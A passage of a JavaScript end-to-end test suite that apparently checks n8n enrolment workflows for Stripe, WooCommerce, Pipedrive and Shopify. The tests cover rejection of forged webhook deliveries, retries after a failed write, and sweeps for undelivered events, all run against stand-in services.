			// The write the schedule completed counts as handled: the tool's resend of the event
			// stops at the table's check, before any request to the tool or to Knolyx.
			const toolBefore = apis.requests.length;
			const again = await heal.deliver(productionUrl(key, trigger), f.body, () => f.headers);
			expect(again.status).toBe('success');
			expect(nodeOutput(again, 'Skip events a retry completed')).toEqual([]);
			expect((await sb.stats()).requests - knolyxBefore).toBe(0);
			expect(
				apis.requests
					.slice(toolBefore)
					.filter((r) => !/webhook|oauth2\/token|verify/.test(r.path) && !SWEEP_LISTS.test(r.path)),
			).toEqual([]);
		});

		more?.(heal);
	});
}

/** POST `body` to `url` as a tool's delivery: 200, and the execution it started (waited for). */
async function postDelivery(key, url, body, headers) {
	const before = (await executionsOf(rest, WF[key].id)).length;
	const res = await fetch(url, { method: 'POST', headers, body });
	expect(res.status).toBe(200);
	const [latest] = await waitForExecutions(rest, WF[key].id, before + 1);
	return execution(rest, latest.id);
}

/** A forged delivery (no or a wrong signature): n8n's trigger starts nothing; Knolyx gets nothing. */
async function expectForgedStartsNothing(key, url, body, headers) {
	const knolyxBefore = (await sb.stats()).requests;
	const state = await sb.businessState();
	const before = (await executionsOf(rest, WF[key].id)).length;
	await fetch(url, { method: 'POST', headers, body });
	await sleep(1500); // an execution, had one started, is listed by then
	const started = (await executionsOf(rest, WF[key].id)).length - before;
	expect({ headers, started }).toEqual({ headers, started: 0 });
	expect((await sb.stats()).requests - knolyxBefore).toBe(0);
	expect(await sb.businessState()).toEqual(state);
}

/**
 * The template's retry schedule switched off (disabled) or on again. Published, it runs every 15
 * minutes at a second n8n derives from the workflow's and the node's ids (PayPal's at hh:00:15,
 * :15:15, :30:15, :45:15): a run of it inside a test of deliveries is an execution no delivery
 * started, and it may claim the pending row the test's resend is to write (fresh run D,
 * 2026-11-29, 2.41.1: PayPal's resend test found 12 executions where its delivery made the 11th).
 * The schedule's own tests, every 2 s: describeHealing.
 */
const switchRetrySchedule = (key, { off }) =>
	editWorkflow(rest, WF[key].id, (wf) => {
		for (const node of wf.nodes.filter((n) => n.type === 'n8n-nodes-base.scheduleTrigger')) {
			if (off) node.disabled = true;
			else delete node.disabled;
		}
		return wf;
	});

const productionUrl = (key, trigger) =>
	`${n8n.url}/webhook/${WF[key].nodes.find((n) => n.name === trigger).webhookId}/webhook`;

/**
 * One published template against its tool's deliveries of `body` to the trigger's production URL:
 * `setUp()` chooses the credentials and fills the stand-in before the workflow is published;
 * `forged()` gives the headers of deliveries the trigger must refuse (`forgedWhat` says which),
 * `headers()` the real delivery's; `enrols` is what the delivery enrols ({ email, workgroup,
 * toolHost, triggerChecks? }, as expectResendAfterFailureEnrolsOnce takes it).
 */
function describePublished(
	title,
	{ key, trigger, body, setUp, forgedWhat, forged, headers, enrols, more },
) {
	describe(title, () => {
		beforeAll(async () => {
			await setUp();
			await switchRetrySchedule(key, { off: true });
			await rest.activateWorkflow(WF[key].id);
		}, 60_000);

		afterAll(async () => {
			await rest.deactivateWorkflow(WF[key].id);
			await switchRetrySchedule(key, { off: false });
		}, 60_000);

		test(`${forgedWhat}: nothing starts, nobody enrolled`, async () => {
			for (const h of forged())
				await expectForgedStartsNothing(key, productionUrl(key, trigger), body, h);
		});

		test(`Knolyx refuses the first request: failed; the resend enrols once; the next resend sends nothing to ${enrols.toolHost} or Knolyx`, async () => {
			await expectResendAfterFailureEnrolsOnce(
				key,
				() => postDelivery(key, productionUrl(key, trigger), body, headers()),
				enrols,
			);
		});

		more?.();
	});
}

describe("11. published, with the tools' own deliveries: a forged one starts nothing; a resend after a failed Knolyx write enrols once; a resend after success stops before any request", () => {
	// Stripe: the trigger creates its endpoint on the stand-in; deliveries signed with its secret.
	const SESSION = 'cs_test_resendAfterFailure000000000001';
	const EVELYN = { email: 'evelyn.granville@example.com', name: 'Evelyn Boyd Granville' };
	const checkout = structuredClone(STRIPE.checkoutSessionCompleted);
	checkout.id = 'evt_test_resendAfterFailure0000000001';
	checkout.data.object.id = SESSION;
	checkout.data.object.customer_details = { ...checkout.data.object.customer_details, ...EVELYN };
	const stripeBody = JSON.stringify(checkout);
	/** Stripe's signature header for the body (t, v1) with `secret`. */
	const stripeSigned = (secret) => {
		const t = Math.floor(Date.now() / 1000);
		const v1 = crypto.createHmac('sha256', secret).update(`${t}.${stripeBody}`).digest('hex');
		return { 'content-type': 'application/json', 'stripe-signature': `t=${t},v1=${v1}` };
	};
	describePublished('Stripe (deliveries signed with the secret of the endpoint the trigger made)', {
		key: 'stripe',
		trigger: 'On Stripe payment, refund or cancellation',
		body: stripeBody,
		async setUp() {
			// The Stripe credential, with the endpoint's secret (the trigger checks deliveries with it).
			await useCredential(
				WF.stripe.id,
				'stripeApi',
				{ ...STRIPE_KEY, signatureSecret: STRIPE_ENDPOINT.secret },
				(n) => n.type === 'n8n-nodes-base.stripeTrigger' || n.type === 'n8n-nodes-base.httpRequest',
			);
			const session = structuredClone(STRIPE.checkoutSessionRead);
			session.id = SESSION;
			session.customer_details = { ...session.customer_details, ...EVELYN };
			stripeHas(`/v1/checkout/sessions/${SESSION}`, session);
			stripeHas(`/v1/events/${checkout.id}`, checkout);
		},
		forgedWhat: 'no signature, or one made with another secret',
		forged: () => [
			{ 'content-type': 'application/json' },
			stripeSigned('whsec_NotTheEndpointSecret000000000000'),
		],
		headers: () => stripeSigned(STRIPE_ENDPOINT.secret),
		enrols: { email: EVELYN.email, workgroup: 201, toolHost: 'api.stripe.com' },
	});

	/**
	 * A Stripe subscription (ids made from `tag`) whose paid invoice enrols `buyer` ({ email, name })
	 * in workgroup 202: Stripe has the invoice and both events (`paid`, `ended`); `running()` makes
	 * Stripe report the subscription active, `canceledAs(email)` canceled with the customer's
	 * e-mail changed to `email`.
	 */
	const stripeSubscriptionCase = (tag, buyer) => {
		const sub = `sub_1Q${tag}`.padEnd(29, '0');
		const subscription = (status, email) => ({
			...structuredClone(STRIPE.subscriptionRead),
			id: sub,
			status,
			customer: { ...STRIPE.subscriptionRead.customer, email, name: buyer.name },
		});
		const invoice = structuredClone(STRIPE.invoiceRead);
		invoice.id = `in_1Q${tag}`.padEnd(29, '0');
		invoice.subscription = sub;
		invoice.customer_email = buyer.email;
		invoice.customer_name = buyer.name;
		stripeHas(`/v1/invoices/${invoice.id}`, invoice);
		const paid = structuredClone(STRIPE.invoicePaid);
		paid.id = `evt_1Q${tag}Paid`.padEnd(29, '0');
		paid.data.object.id = invoice.id;
		paid.data.object.subscription = sub;
		const ended = structuredClone(STRIPE.customerSubscriptionDeleted);
		ended.id = `evt_1Q${tag}Ended`.padEnd(29, '0');
		ended.data.object.id = sub;
		for (const e of [paid, ended]) stripeHas(`/v1/events/${e.id}`, e);
		return {
			sub,
			paid,
			ended,
			running: () => stripeHas(`/v1/subscriptions/${sub}`, subscription('active', buyer.email)),
			canceledAs: (email) => stripeHas(`/v1/subscriptions/${sub}`, subscription('canceled', email)),
		};
	};
	/** The end of a subscription `ex` removed the address it enrolled, `old`, not the current `changed`. */
	const expectEnrolledAddressRemoved = async (ex, old, changed) => {
		expect(nodeOutput(ex, 'Remove buyer from course workgroup')).toEqual([
			expect.objectContaining({ email: old, workgroupId: 202, removed: true }),
		]);
		expect(membersOf(await sb.state(), 202)).not.toContain(old);
		expect(userByEmail(await sb.state(), changed)).toBeUndefined();
	};

	describe("Stripe with a credential without its optional Signature Secret (n8n 1.x's trigger then checks no signature): an unsigned delivery of an event Stripe does not have changes nothing; an ended subscription removes the address it enrolled", () => {
		const TRIGGER = 'On Stripe payment, refund or cancellation';
		const JOAN = { email: 'joan.clarke@example.com', name: 'Joan Clarke' };
		const forged = structuredClone(STRIPE.checkoutSessionCompleted);
		forged.id = 'evt_1QUnsignedForgedEventId0001';
		forged.data.object.id = 'cs_test_unsignedForgedEvent0000001';
		forged.data.object.customer_details = { ...forged.data.object.customer_details, ...JOAN };

		beforeAll(async () => {
			await useCredential(
				WF.stripe.id,
				'stripeApi',
				STRIPE_KEY,
				(n) => n.type === 'n8n-nodes-base.stripeTrigger' || n.type === 'n8n-nodes-base.httpRequest',
			);
			// A session Stripe reports paid (its buyer knows its id); its event was never sent.
			const session = structuredClone(STRIPE.checkoutSessionRead);
			session.id = forged.data.object.id;
			session.customer_details = { ...session.customer_details, ...JOAN };
			stripeHas(`/v1/checkout/sessions/${session.id}`, session);
			await rest.activateWorkflow(WF.stripe.id);
		}, 60_000);

		afterAll(async () => {
			await rest.deactivateWorkflow(WF.stripe.id);
		}, 60_000);

		test('refused by the trigger (401), or started and stopped at the event read (404): nobody enrolled, nothing sent to Knolyx', async () => {
			const knolyxBefore = (await sb.stats()).requests;
			const state = await sb.businessState();
			const before = (await executionsOf(rest, WF.stripe.id)).length;
			const res = await fetch(productionUrl('stripe', TRIGGER), {
				method: 'POST',
				headers: { 'content-type': 'application/json' },
				body: JSON.stringify(forged),
			});
			if (res.status === 200) {
				const [latest] = await waitForExecutions(rest, WF.stripe.id, before + 1);
				const ex = await execution(rest, latest.id);
				expect(ex.status).toBe('error');
				expect(
					apis.requests.filter((r) => r.path === `/v1/events/${forged.id}`).map((r) => r.status),
				).toEqual([404]);
			} else {
				expect(res.status).toBe(401);
			}
			expect((await sb.stats()).requests - knolyxBefore).toBe(0);
			expect(await sb.businessState()).toEqual(state);
			expect(userByEmail(await sb.state(), JOAN.email)).toBeUndefined();
		});

		test('a subscriber who changed their e-mail at Stripe before the subscription ended: the address the subscription enrolled is removed (signed deliveries)', async () => {
			const OLD = 'ada.lovelace@example.com';
			const NEW = 'ada.king@example.com';
			const { paid, ended, running, canceledAs } = stripeSubscriptionCase('TestChangedEmail', {
				email: OLD,
				name: 'Ada Lovelace',
			});
			const deliver = async (e) => {
				const { body, headers } = stripeDelivery(e);
				const ex = await postDelivery('stripe', productionUrl('stripe', TRIGGER), body, headers);
				expect(ex.status).toBe('success');
				return ex;
			};

			running();
			await deliver(paid);
			expect(membersOf(await sb.state(), 202)).toContain(OLD);

			// The buyer changes their e-mail at Stripe, then the subscription ends.
			canceledAs(NEW);
			await expectEnrolledAddressRemoved(await deliver(ended), OLD, NEW);
		});
	});

	/** A checkout.session.completed event `eventId` for session `sessionId`, paid by `who`, known to Stripe. */
	const stripeCheckout = (eventId, sessionId, who, change = (x) => x) => {
		const event = structuredClone(STRIPE.checkoutSessionCompleted);
		event.id = eventId;
		event.data.object.id = sessionId;
		event.data.object.customer_details = { ...event.data.object.customer_details, ...who };
		const session = structuredClone(STRIPE.checkoutSessionRead);
		session.id = sessionId;
		session.customer_details = { ...session.customer_details, ...who };
		stripeHas(`/v1/checkout/sessions/${sessionId}`, change(session));
		stripeHas(`/v1/events/${eventId}`, event);
		return event;
	};
	/** Stripe's signed delivery of `event`: { body, headers }. */
	const stripeDelivery = (event) => {
		const body = JSON.stringify(event);
		const t = Math.floor(Date.now() / 1000);
		const v1 = crypto
			.createHmac('sha256', STRIPE_ENDPOINT.secret)
			.update(`${t}.${body}`)
			.digest('hex');
		return {
			body,
			headers: { 'content-type': 'application/json', 'stripe-signature': `t=${t},v1=${v1}` },
		};
	};
	describeHealing(
		'Stripe: a failed Knolyx write heals itself (the retry schedule reads the event and its objects from Stripe again, every 2 s here)',
		{
			key: 'stripe',
			trigger: 'On Stripe payment, refund or cancellation',
			async setUp() {
				await useCredential(
					WF.stripe.id,
					'stripeApi',
					{ ...STRIPE_KEY, signatureSecret: STRIPE_ENDPOINT.secret },
					(n) =>
						n.type === 'n8n-nodes-base.stripeTrigger' || n.type === 'n8n-nodes-base.httpRequest',
				);
			},
			fresh() {
				const who = { email: 'ruth.teitelbaum@example.com', name: 'Ruth Teitelbaum' };
				const event = stripeCheckout(
					'evt_1QHealLandsOnce0000000001',
					'cs_test_healLandsOnce00000000001',
					who,
				);
				return { ...stripeDelivery(event), key: event.id, email: who.email, workgroup: 201 };
			},
			more(heal) {
				test('Knolyx down: a pending enrolment; Stripe refunds the charge meanwhile; Knolyx back: the schedule reads the session refunded, enrols nobody, and drops the write', async () => {
					const who = { email: 'evelyn.berezin@example.com', name: 'Evelyn Berezin' };
					const SESSION_ID = 'cs_test_healRefundedMeanwhile00001';
					const event = stripeCheckout('evt_1QHealRefundedMeanwhile001', SESSION_ID, who);
					const { body, headers } = stripeDelivery(event);
					await heal.knolyxDown();
					try {
						const failed = await heal.deliver(
							productionUrl('stripe', 'On Stripe payment, refund or cancellation'),
							body,
							() => headers,
						);
						expect(failed.status).toBe('error');
						expectKept(await heal.rowOf(event.id));
						stripeCheckout(event.id, SESSION_ID, who, (session) => {
							session.payment_intent.latest_charge.refunded = true;
							session.payment_intent.latest_charge.amount_refunded = session.amount_total;
							return session;
						});
						await heal.readAgain(`/v1/checkout/sessions/${SESSION_ID}`);
					} finally {
						await heal.knolyxBack();
					}
					const row = await heal.rowWith(event.id, 'dropped');
					expect(row.detail).toMatch(/^Stripe's current state asks for no write/);
					expect(userByEmail(await sb.state(), who.email)).toBeUndefined();
				});

				/**
				 * A paid Checkout Stripe lists among its events now (created this second) and never
				 * delivers: a session of its own payment intent and charge, paid by `who`.
				 */
				const undelivered = (tag, who) => {
					const pi = `pi_3Q${tag}`.padEnd(27, '0');
					const charge = `ch_3Q${tag}`.padEnd(27, '0');
					const sessionId = `cs_test_${tag}`.padEnd(33, '0');
					const paidSession = (session) => {
						session.payment_intent = {
							...session.payment_intent,
							id: pi,
							latest_charge: {
								...session.payment_intent.latest_charge,
								id: charge,
								payment_intent: pi,
							},
						};
						return session;
					};
					const paid = stripeCheckout(
						`evt_1Q${tag}Paid`.padEnd(29, '0'),
						sessionId,
						who,
						paidSession,
					);
					paid.created = Math.floor(Date.now() / 1000);
					return {
						paid,
						/** Stripe refunds the charge in full and lists charge.refunded (never delivered either). */
						refund() {
							const session = paidSession(structuredClone(STRIPE.checkoutSessionRead));
							session.id = sessionId;
							session.customer_details = { ...session.customer_details, ...who };
							session.payment_intent.latest_charge.refunded = true;
							session.payment_intent.latest_charge.amount_refunded = session.amount_total;
							stripeHas(`/v1/checkout/sessions/${sessionId}`, session);
							const chargeRead = {
								...structuredClone(STRIPE.chargeRead),
								id: charge,
								payment_intent: pi,
							};
							chargeRead.billing_details = { ...chargeRead.billing_details, ...who };
							stripeHas(`/v1/charges/${charge}`, chargeRead);
							const refunded = structuredClone(STRIPE.chargeRefunded);
							refunded.id = `evt_1Q${tag}Refd`.padEnd(29, '0');
							refunded.created = Math.floor(Date.now() / 1000);
							refunded.data.object = { ...refunded.data.object, id: charge, payment_intent: pi };
							stripeHas(`/v1/events/${refunded.id}`, refunded);
							return refunded;
						},
					};
				};

				test('the sweep: a paid Checkout whose delivery never arrives is enrolled by the next sweep; its full refund, never delivered either, removes the buyer', async () => {
					const who = { email: 'mary.keller@example.com', name: 'Mary Kenneth Keller' };
					const { paid, refund } = undelivered('SweepNeverSent', who);
					const enrolled = await heal.rowWith(paid.id, 'done');
					expect(enrolled.detail).toBe(`enrolled ${who.email} (workgroup 201)`);
					expect(membersOf(await sb.state(), 201).filter((e) => e === who.email)).toEqual([
						who.email,
					]);

					await expectSweptRemoval(heal, refund().id, who.email);
				});

				test('the sweep: Knolyx down across a sweep; the undelivered payment is kept as pending (quietly: no run fails) and enrolled once Knolyx is back', async () => {
					await expectSweptAcrossOutage(heal, WF.stripe.id, 'klara.dan@example.com', () =>
						String(
							undelivered('SweepAcrossOutage', {
								email: 'klara.dan@example.com',
								name: 'Klara Dan',
							}).paid.id,
						),
					);
				});

				test('a quiet sweep (nothing new at Stripe since the last): one list request to Stripe a run, none to Knolyx', async () => {
					const reads = await expectQuietSweeps(heal, 'api.stripe.com', 'GET');
					expect(reads[0].query).toMatchObject({
						'created[gte]': expect.stringMatching(/^\d+$/),
						'types[0]': 'checkout.session.completed',
						limit: '100',
					});
				});

				test('a subscription enrolled by a retried write (kept in the data table, not in static data), whose customer then changed their e-mail at Stripe: when it ends, the address the retry enrolled is removed', async () => {
					const OLD = 'kathleen.booth@example.com';
					const NEW = 'kathleen.britten@example.com';
					const { sub, paid, ended, running, canceledAs } = stripeSubscriptionCase(
						'HealChangedEmail',
						{ email: OLD, name: 'Kathleen Booth' },
					);
					running();
					const url = productionUrl('stripe', 'On Stripe payment, refund or cancellation');
					const send = (event) => {
						const { body, headers } = stripeDelivery(event);
						return heal.deliver(url, body, () => headers);
					};

					await heal.knolyxDown();
					try {
						expect((await send(paid)).status).toBe('error');
						expectKept(await heal.rowOf(paid.id));
					} finally {
						await heal.knolyxBack();
					}
					await heal.rowWith(paid.id, 'done');
					expect(membersOf(await sb.state(), 202)).toContain(OLD);
					expect(await heal.rowOf(`subscription:${sub}`)).toMatchObject({
						status: 'enrolled',
						detail: OLD,
					});

					// The customer changes their e-mail at Stripe, then the subscription ends.
					canceledAs(NEW);
					const ex = await send(ended);
					expect(ex.status).toBe('success');
					await expectEnrolledAddressRemoved(ex, OLD, NEW);
				});
			},
		},
	);

	// WooCommerce: the trigger registers its webhook and secret at the store; deliveries signed with it.
	const order = {
		...structuredClone(WOO.orderCompleted),
		id: 1191,
		status: 'processing',
		date_completed: null,
		date_modified: '2026-11-26T09:30:00',
		billing: {
			...WOO.orderCompleted.billing,
			first_name: 'Radia',
			last_name: 'Perlman',
			email: 'radia.perlman@example.com',
		},
	};
	const wooBody = JSON.stringify(order);
	const wooSigned = (secret) => ({
		'content-type': 'application/json',
		'x-wc-webhook-id': String(WOO_HOOK.id),
		'x-wc-webhook-topic': 'order.updated',
		'x-wc-webhook-signature': crypto.createHmac('sha256', secret).update(wooBody).digest('base64'),
	});
	describePublished('WooCommerce (deliveries signed with the secret the trigger gave the store)', {
		key: 'woo',
		trigger: 'On WooCommerce order updated',
		body: wooBody,
		async setUp() {
			storeHas(order);
			await useCredential(WF.woo.id, 'wooCommerceApi', WOO_CREDENTIAL, (n) =>
				['n8n-nodes-base.wooCommerce', 'n8n-nodes-base.wooCommerceTrigger'].includes(n.type),
			);
		},
		forgedWhat: 'no signature, or one made with another secret',
		forged: () => {
			const { 'x-wc-webhook-signature': _, ...unsigned } = wooSigned('x');
			return [unsigned, wooSigned('not-the-secret-the-store-holds')];
		},
		headers: () => wooSigned(WOO_HOOK.created.secret),
		enrols: { email: 'radia.perlman@example.com', workgroup: 202, toolHost: WOOCOMMERCE_HOST },
	});

	/** A paid order `id` of `first last` the store has; its signed delivery: { body, headers }. */
	const wooPaidOrder = (id, first, last) => {
		const paid = {
			...structuredClone(order),
			id,
			date_modified: `2026-11-26T10:${String(id % 60).padStart(2, '0')}:00`,
			billing: {
				...order.billing,
				first_name: first,
				last_name: last,
				email: `${first}.${last}@example.com`.toLowerCase(),
			},
		};
		storeHas(paid);
		const body = JSON.stringify(paid);
		const headers = {
			...wooSigned(WOO_HOOK.created.secret),
			'x-wc-webhook-signature': crypto
				.createHmac('sha256', WOO_HOOK.created.secret)
				.update(body)
				.digest('base64'),
		};
		return { paid, body, headers };
	};
	describeHealing(
		'WooCommerce: a failed Knolyx write heals itself (the retry schedule reads the order from the store again, every 2 s here)',
		{
			key: 'woo',
			trigger: 'On WooCommerce order updated',
			async setUp() {
				storeHas(order);
				await useCredential(
					WF.woo.id,
					'wooCommerceApi',
					WOO_CREDENTIAL,
					(n) =>
						['n8n-nodes-base.wooCommerce', 'n8n-nodes-base.wooCommerceTrigger'].includes(n.type) ||
						n.name === 'What changed at WooCommerce',
				);
				// The note's step 2: the sweep's URL starts with the store's address, as the credential's.
				await editWorkflow(rest, WF.woo.id, (wf) => {
					const list = wf.nodes.find((n) => n.name === 'What changed at WooCommerce');
					list.parameters.url = list.parameters.url.replace(
						'https://your-store.example',
						WOOCOMMERCE_STORE,
					);
					return wf;
				});
			},
			fresh() {
				const { paid, body, headers } = wooPaidOrder(1195, 'Ida', 'Rhodes');
				return { body, headers, key: String(paid.id), email: paid.billing.email, workgroup: 202 };
			},
			more(heal) {
				const url = () => productionUrl('woo', 'On WooCommerce order updated');
				/** Knolyx down: the delivery of a new paid order fails; `meanwhile(paid)` while still down. */
				const pendingThen = async (id, first, last, meanwhile) => {
					const { paid, body, headers } = wooPaidOrder(id, first, last);
					await heal.knolyxDown();
					try {
						expect((await heal.deliver(url(), body, () => headers)).status).toBe('error');
						expectKept(await heal.rowOf(String(id)));
						await meanwhile(paid);
						await heal.readAgain(`/wp-json/wc/v3/orders/${id}`);
					} finally {
						await heal.knolyxBack();
					}
					return paid;
				};

				test('Knolyx down: a pending enrolment; the store refunds the order meanwhile; Knolyx back: the schedule reads the order refunded, enrols nobody, and closes the row', async () => {
					const paid = await pendingThen(1196, 'Elizabeth', 'Feinler', (p) =>
						storeHas({ ...p, ...WOO.refundedChanges, id: p.id }),
					);
					const row = await heal.rowWith(String(paid.id), 'done');
					expect(row.detail).toBe(`removed ${paid.billing.email} (workgroup 202)`);
					const state = await sb.state();
					expect(membersOf(state, 202)).not.toContain(paid.billing.email);
					expect(userByEmail(state, paid.billing.email)).toBeUndefined();
				});

				test('Knolyx down: a pending enrolment, tried again by each run (the row counts the tries); the store puts the order on hold meanwhile; Knolyx back: the schedule drops the write, enrols nobody', async () => {
					const paid = await pendingThen(1197, 'Adele', 'Goldberg', async (p) => {
						await heal.until(
							async () => (await heal.rowOf(String(p.id))).attempts >= 2,
							'a second try',
						);
						storeHas({ ...p, status: 'on-hold', date_paid: null, date_paid_gmt: null });
					});
					const row = await heal.rowWith(String(paid.id), 'dropped');
					expect(row.detail).toBe(
						'WooCommerce reports the order on-hold: nothing to enrol or remove',
					);
					expect(userByEmail(await sb.state(), paid.billing.email)).toBeUndefined();
				});

				/** The store changes order `id` of `first last` now (`date_modified` this second), delivering nothing. */
				const changedNow = (id, first, last, change = (o) => o) => {
					const now = new Date().toISOString().slice(0, 19);
					const { paid } = wooPaidOrder(id, first, last);
					const changed = change({ ...paid, date_modified: now, date_modified_gmt: now });
					storeHas(changed);
					return changed;
				};

				test('the sweep: an order paid at the store whose delivery never arrives is enrolled by the next sweep; its refund, never delivered either, removes the buyer', async () => {
					const paid = changedNow(1198, 'Margaret', 'Hamilton');
					const enrolled = await heal.rowWith('1198', 'done');
					expect(enrolled.detail).toBe(`enrolled ${paid.billing.email} (workgroup 202)`);
					expect(membersOf(await sb.state(), 202).filter((e) => e === paid.billing.email)).toEqual([
						paid.billing.email,
					]);
					await heal.settled();
					// Refunded a second later (WooCommerce's times are to the second).
					await sleep(1100);
					changedNow(1198, 'Margaret', 'Hamilton', (o) => ({
						...o,
						...WOO.refundedChanges,
						id: o.id,
						date_modified: o.date_modified,
						date_modified_gmt: o.date_modified_gmt,
					}));
					const removed = await heal.until(async () => {
						const row = await heal.rowOf('1198');
						return row?.status === 'done' && row.detail.startsWith('removed') && row;
					}, 'the refund the sweep found applied');
					expect(removed.detail).toBe(`removed ${paid.billing.email} (workgroup 202)`);
					expect(membersOf(await sb.state(), 202)).not.toContain(paid.billing.email);
					await heal.settled();
					await heal.scheduleRuns(2);
					expect(membersOf(await sb.state(), 202)).not.toContain(paid.billing.email);
				});

				test('a quiet sweep (nothing changed at the store since the last): one list request to the store a run, none to Knolyx', async () => {
					const reads = await expectQuietSweeps(heal, WOOCOMMERCE_HOST, 'GET');
					expect(reads[0].query).toMatchObject({
						modified_after: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d$/),
						dates_are_gmt: 'true',
						per_page: '100',
					});
				});
			},
		},
	);

	// Pipedrive: the trigger registers its webhook with the Basic Auth user and password;
	// deliveries carry them.
	const BASIC = { user: 'pipedrive-to-n8n', password: 'standInBasicAuthPasswordForTheE2e' };
	const won = structuredClone(PIPEDRIVE.dealWonV2);
	won.meta.id = '7a6b5c4d-3e2f-4a1b-9c8d-7e6f5a4b3c2d';
	won.meta.entity_id = '320';
	won.data = { ...won.data, id: 320, person_id: 1179 };
	const basic = (user, password) => ({
		'content-type': 'application/json',
		authorization: `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`,
	});
	const pipedrivePublished = {
		key: 'pipedrive',
		trigger: 'On Pipedrive deal changed',
		body: JSON.stringify(won),
		async setUp() {
			const deal = { ...structuredClone(PIPEDRIVE.dealReadV2), id: 320, person_id: 1179 };
			const person = {
				...structuredClone(PIPEDRIVE.personV2Deal),
				id: 1179,
				name: 'Mary Kenneth Keller',
				email: [{ label: 'work', value: 'mary.keller@example.com', primary: true }],
			};
			pipedriveHas('/deals/320', deal);
			pipedriveHas('/persons/1179', person);
			const trigger = (n) => n.type === 'n8n-nodes-base.pipedriveTrigger';
			await useCredential(
				WF.pipedrive.id,
				'pipedriveApi',
				PIPEDRIVE_TOKEN,
				(n) =>
					['n8n-nodes-base.pipedrive', 'n8n-nodes-base.pipedriveTrigger'].includes(n.type) ||
					n.parameters.nodeCredentialType === 'pipedriveApi',
			);
			await useCredential(WF.pipedrive.id, 'httpBasicAuth', BASIC, trigger);
		},
		forgedWhat: 'no Basic Auth, or a wrong password',
		forged: () => [{ 'content-type': 'application/json' }, basic(BASIC.user, 'a-guessed-password')],
		headers: () => basic(BASIC.user, BASIC.password),
		enrols: { email: 'mary.keller@example.com', workgroup: 202, toolHost: 'api.pipedrive.com' },
	};
	describePublished(
		'Pipedrive (deliveries with the Basic Auth the trigger gave Pipedrive)',
		pipedrivePublished,
	);
	describeHealing(
		'Pipedrive: a failed Knolyx write heals itself (the retry schedule reads the deal from Pipedrive again, every 2 s here)',
		{
			...pipedrivePublished,
			fresh() {
				const wonAgain = structuredClone(won);
				wonAgain.meta.id = '8b7c6d5e-4f3a-4b2c-8d9e-0f1a2b3c4d5e';
				wonAgain.meta.entity_id = '321';
				wonAgain.data = { ...wonAgain.data, id: 321, person_id: 1180 };
				pipedriveHas('/deals/321', {
					...structuredClone(PIPEDRIVE.dealReadV2),
					id: 321,
					person_id: 1180,
				});
				pipedriveHas('/persons/1180', {
					...structuredClone(PIPEDRIVE.personV2Deal),
					id: 1180,
					name: 'Jean Sammet',
					email: [{ label: 'work', value: 'jean.sammet@example.com', primary: true }],
				});
				return {
					body: JSON.stringify(wonAgain),
					headers: basic(BASIC.user, BASIC.password),
					key: '321',
					email: 'jean.sammet@example.com',
					workgroup: 202,
				};
			},
			more(heal) {
				test('the sweep: a deal won at Pipedrive whose delivery never arrives (the webhook deleted there) is enrolled by the next sweep; a quiet sweep then makes one list request to Pipedrive a run and none to Knolyx', async () => {
					// Deleted at Pipedrive; put back after the test, so that unpublishing still removes it.
					const hook = PIPEDRIVE_HOOK.created;
					PIPEDRIVE_HOOK.created = undefined;
					try {
						await sweptWonDeal();
					} finally {
						PIPEDRIVE_HOOK.created = hook;
					}
				});

				const sweptWonDeal = async () => {
					const now = new Date().toISOString().replace('T', ' ').slice(0, 19);
					pipedriveHas('/deals/322', {
						...structuredClone(PIPEDRIVE.dealReadV2),
						id: 322,
						person_id: 1181,
						update_time: now,
						won_time: now,
					});
					pipedriveHas('/persons/1181', {
						...structuredClone(PIPEDRIVE.personV2Deal),
						id: 1181,
						name: 'Adele Goldberg',
						email: [{ label: 'work', value: 'adele.goldberg@example.com', primary: true }],
					});
					const row = await heal.rowWith('322', 'done');
					expect(row.detail).toBe('enrolled adele.goldberg@example.com (workgroup 202)');
					expect(
						membersOf(await sb.state(), 202).filter((e) => e === 'adele.goldberg@example.com'),
					).toEqual(['adele.goldberg@example.com']);

					const reads = await expectQuietSweeps(heal, 'api.pipedrive.com', 'GET');
					expect(reads[0].query).toMatchObject({
						since_timestamp: expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/),
						items: 'deal',
					});
				};
			},
		},
	);

	// Shopify: both triggers register their webhooks at the shop; deliveries carry Shopify's
	// headers and an HMAC of the body with the app's secret.
	const grace = { email: 'grace.murray@example.com', contact_email: 'grace.murray@example.com' };
	const paidOrder = { ...structuredClone(SHOPIFY.ordersPaid), id: 5837204870011, ...grace };
	paidOrder.line_items = paidOrder.line_items.slice(0, 1);
	const shopifyBody = JSON.stringify(paidOrder);
	const shopifySigned = (secret, extra = {}) => ({
		'content-type': 'application/json',
		'x-shopify-topic': 'orders/paid',
		'x-shopify-shop-domain': SHOPIFY_HOST,
		'x-shopify-api-version': '2024-07',
		'x-shopify-webhook-id': 'b54557e4-bdd9-4b37-8a5f-bf7d70bcd043',
		'x-shopify-hmac-sha256': crypto
			.createHmac('sha256', secret)
			.update(shopifyBody)
			.digest('base64'),
		...extra,
	});
	const shopifyPublished = {
		key: 'shopify',
		trigger: 'On Shopify order paid',
		body: shopifyBody,
		async setUp() {
			const read = { ...structuredClone(SHOPIFY.orderRead), id: paidOrder.id, ...grace };
			read.line_items = read.line_items.slice(0, 1);
			read.customer = {
				...read.customer,
				email: grace.email,
				first_name: 'Grace',
				last_name: 'Murray',
			};
			shopHas(read);
			await useCredential(WF.shopify.id, 'shopifyAccessTokenApi', SHOPIFY_CREDENTIAL, (n) =>
				['n8n-nodes-base.shopify', 'n8n-nodes-base.shopifyTrigger'].includes(n.type),
			);
		},
		forgedWhat: 'no HMAC, or one made with another secret',
		forged: () => {
			const { 'x-shopify-hmac-sha256': _, ...unsigned } = shopifySigned('x');
			return [unsigned, shopifySigned('not-the-app-secret')];
		},
		headers: () => shopifySigned(SHOPIFY_CREDENTIAL.appSecretKey),
		enrols: { email: grace.email, workgroup: 201, toolHost: SHOPIFY_HOST },
	};
	describePublished('Shopify (deliveries with the HMAC of the app secret)', shopifyPublished);
	describeHealing(
		'Shopify: a failed Knolyx write heals itself (the retry schedule reads the order from the shop again, every 2 s here)',
		{
			...shopifyPublished,
			fresh() {
				const barbara = {
					email: 'barbara.liskov@example.com',
					contact_email: 'barbara.liskov@example.com',
				};
				const paid = { ...structuredClone(SHOPIFY.ordersPaid), id: 5837204870077, ...barbara };
				paid.line_items = paid.line_items.slice(0, 1);
